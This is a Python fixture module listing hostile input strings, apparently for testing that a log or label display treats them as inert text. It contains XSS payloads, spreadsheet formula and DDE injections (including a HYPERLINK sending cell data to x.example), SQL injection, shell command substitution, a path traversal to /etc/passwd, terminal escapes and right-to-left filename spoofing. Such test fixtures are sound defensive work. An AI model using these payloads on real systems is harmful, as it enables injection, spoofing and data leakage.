"""Texts that somebody may type or a device may send, to whom every page is only a target.

One table for all who show what stands in a log. Each text has a name that says what it would
do where it is not taken for text. All of them fit a `Label`; `LONG` fits a private text only.
"""

from types import MappingProxyType
from typing import Final

TEXTS: Final = MappingProxyType(
    {
        "html script": "<script>document.title='taken'</script>",
        "html attribute": '" onmouseover="alert(1)" x=\'',
        "html image": "<img src=x onerror=alert(1)>",
        "html comment": "--><svg/onload=alert(1)><!--",
        "html entity": "&lt;b&gt;&#x202e;&amp;",
        "jinja": "{{ 7 * 7 }}{% raw %}",
        "url": "javascript:alert(1)",
        "formula": "=cmd|' /C calc'!A0",
        "formula link": '=HYPERLINK("http://x.example/?"&A1,"more")',
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab first": "\t=1+1",
        "carriage return first": "\r=1+1",
        "line feed first": "\n=1+1",
        "space first": "  =1+1",
        "wide equals": "\uff1d1+1",
        "apostrophe": "'=1+1",
        "separators": 'a,b;c|d\t"e"',
        "lone quote": 'a " b',
        "lone apostrophe": "O'Brien",
        "quote at the end": 'seen"',
        "two lines": "first\r\nsecond,line\nthird",
        "sql": "'; DROP TABLE shot; --",
        "shell": "$(touch taken) `touch taken` ; touch taken",
        "path": "../../../etc/passwd",
        "terminal colours": "\x1b[31mred\x1b[0m",
        "terminal title": "\x1b]0;taken\x07",
        "terminal clear": "\x1b[2J\x1b[H",
        "c1 control": "\x9b2J\x9d0;taken\x9c",
        "bell and backspace": "fine\x08\x08\x08\x08gone\x07",
        "start of heading": "\x01\x02\x7f",
        "right to left": "invoice \u202egnp.exe",
        "isolates": "\u2066left\u2069 \u200fright\u200e",
        "zero width": "a\u200bb\u200dc\ufeffd\u00ad",
        "line separators": "one\u2028two\u2029three\x85four",
        "combining": "e\u0301\u0301\u0301 Z\u0351\u036b\u0343",
        "beyond the first plane": "\U0001f489 \U0001d54f \U000e0041",
        "private use": "\ue000\U0010fffd",
        "json": '{"a": "\\u0000", "b": [1]}',
        "backslashes": "\\n \\x41 \\",
        "number": "1e999",
        "negative number": "-15",
        "leading zeros": "007",
        "date": "1/2",
        "nothing": "NULL",
        "long": "x" * 180 + " <end>",
    }
)
"""By what each would do."""

NUL: Final = "before\x00after"
"""SQLite's JSON ends such a text at the NUL; the entry itself holds all of it."""

LONG: Final = ("=" + "\u202e<b>" + "long " * 40 + "\n") * 200
"""For private texts, which may be longer than a label."""
